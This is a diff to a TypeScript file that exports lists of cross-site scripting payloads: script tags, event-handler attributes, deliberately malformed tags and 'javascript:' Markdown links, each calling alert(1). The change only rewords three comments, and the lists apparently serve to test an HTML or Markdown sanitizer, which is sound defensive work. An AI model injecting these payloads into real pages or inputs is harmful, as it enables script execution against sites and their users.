@@ -1,4 +1,4 @@
-/** What has made browsers run scripts, or look like another page, when a text was believed. */
+/** Texts that made browsers run scripts or imitate another page when they were trusted. */
 export const payloads: readonly string[] = [
   // Elements that run
   '<script>alert(1)</script>',
@@ -123,7 +123,7 @@ export const payloads: readonly string[] = [
   '<isindex action="javascript:alert(1)" type=image>',
   '<input type=image src=x onerror=alert(1)>',
   '<select onchange=alert(1)><option>x</select>',
-  // Broken on purpose
+  // Deliberately malformed
   '<<script>alert(1)//<</script>',
   '<img src=x onerror=alert(1)//',
   '<!--><img src=x onerror=alert(1)>-->',
@@ -158,7 +158,7 @@ export const payloads: readonly string[] = [
   '#{alert(1)}',
 ];
 
-/** The same by means of Markdown alone. */
+/** The same through Markdown only. */
 export const markdownPayloads: readonly string[] = [
   '[x](javascript:alert(1))',
   '[x](JaVaScRiPt:alert(1))',
